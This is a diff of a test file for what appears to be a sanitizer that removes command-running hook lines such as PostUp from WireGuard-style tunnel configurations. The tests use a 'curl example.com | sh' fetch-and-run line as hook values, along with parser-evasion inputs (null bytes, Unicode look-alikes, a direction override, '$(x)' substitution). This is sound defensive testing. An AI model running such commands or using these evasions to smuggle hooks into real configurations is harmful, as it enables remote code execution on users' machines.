@@ -7,7 +7,7 @@ const harmless = '[Interface]\nPrivateKey = a\nAddress = 10.0.0.2/32\n\n[Peer]\n
 
 describe('a tunnel configuration', () => {
   it.each(['PostUp', 'PreUp', 'PostDown', 'PreDown', 'SaveConfig', 'POSTUP', 'postup'])(
-    'loses its line %s and keeps the rest byte for byte',
+    'loses its line %s and keeps its settings',
     (name) => {
       const config = harmless.replace('\n\n', `\n${name} = curl example.com | sh\n\n`);
       expect(withoutCommands(config)).toEqual({
@@ -18,34 +18,75 @@ describe('a tunnel configuration', () => {
   );
 
   it.each([
-    '  PostUp=x\n',
-    '\tPostUp\t=x\n',
-    '\uFEFFPostUp = x\n',
-    'Post\0Up = x\n',
-    'PostUp = x # harmless\n',
-    'PostUp = x\r\n',
+    '  PostUp=x',
+    '\tPostUp\t=x',
+    'Post\0Up = x',
+    'PostUp = x # harmless',
+    'PostUp = x\r',
+    'PostUp\r= x',
     '\rPostUp = x\r',
-    'MTU = 1280\rPostUp = x\r',
+    'MTU = 1280\rPostUp = x',
+    'MTU = 1280\u2028PostUp = x',
     'PostUp = a = b',
-  ])('loses %j too', (line) => {
-    const { text, commands } = withoutCommands(`${harmless}${line}`);
-    expect(text.toLowerCase().replaceAll('\0', '')).not.toContain('postup');
-    expect(commands).toHaveLength(1);
+    'SaveConf\u0130g = true',
+    '\uFEFFPostUp = x',
+    'PostUp',
+    'Unknown = x',
+    'MTU = $(x)',
+    'PublicKey = of another section',
+    '# a comment\rPostUp = x',
+    '# turned \u202E around',
+    '[Interface] = x',
+  ])('loses %j, and is written anew without it', (line) => {
+    const config = harmless.replace('\n\n', `\n${line}\n\n`);
+    expect(withoutCommands(config)).toEqual({ text: harmless, commands: [line.trim()] });
   });
 
-  it('loses a line with its carriage return and no other byte', () => {
-    const config = harmless.replaceAll('\n', '\r\n');
-    const commands = ['PostUp = x'];
-    expect(withoutCommands(`${config}PostUp = x\r\n`)).toEqual({ text: config, commands });
+  it('is written anew with the known spelling of its names, one line feed a line', () => {
+    const config =
+      '\uFEFF[interface]\r\nprivatekey=a=\r\n\r\nMTU\t= 1280 # low\r\nPostUp = x\r\n[PEER]\r\n';
+    expect(withoutCommands(config).text).toBe(
+      '[Interface]\nPrivateKey = a=\nMTU = 1280\n\n[Peer]\n',
+    );
   });
 
-  it.each(['# PostUp = x\n', 'Endpoint = postup.example.com:1\n', 'PostUp\n', '', '\r\n'])(
-    'keeps %j, which runs nothing',
-    (line) => {
-      const config = `${harmless.replaceAll('\n', '\r\n')}${line}`;
+  it('loses what follows a section that is not known', () => {
+    const { text, commands } = withoutCommands(`${harmless}[Other]\nEndpoint = x:1\n[Peer]\n`);
+    expect(text).toBe(`${harmless}\n[Peer]\n`);
+    expect(commands).toEqual(['[Other]', 'Endpoint = x:1']);
+  });
+
+  it('loses a mark of the byte order, which no reader expects, without a word', () => {
+    expect(withoutCommands(`\uFEFF${harmless}`)).toEqual({ text: harmless, commands: [] });
+  });
+
+  it.each([
+    '# PostUp = x\n',
+    '# Название, 日本 & more; $\n',
+    'Endpoint = postup.example.com:1\n',
+    'Endpoint = [2001:db8::1]:51820 # home\n',
+    '[Interface]\nI1 = <b 0xc0ff><t><r 16>\nH1 = 5-1000\n',
+    ' presharedkey=\tab+/=\n',
+    '',
+    '\r\n',
+    'PersistentKeepalive = 25',
+  ])('stays byte for byte with %j', (line) => {
+    for (const config of [`${harmless}${line}`, `${harmless.replaceAll('\n', '\r\n')}${line}`])
       expect(withoutCommands(config)).toEqual({ text: config, commands: [] });
-    },
-  );
+  });
+
+  it('is judged in time that grows with its length alone', () => {
+    const texts = [
+      ' '.repeat(1e6),
+      '\r'.repeat(1e6),
+      'a='.repeat(5e5),
+      '[\n'.repeat(5e5),
+      '#'.repeat(1e6),
+    ];
+    const before = process.cpuUsage();
+    for (const text of texts) withoutCommands(`${harmless}${text}x\n`);
+    expect(process.cpuUsage(before).user / 1000).toBeLessThan(2000);
+  });
 });
 
 describe('a connection whose configuration runs commands', () => {
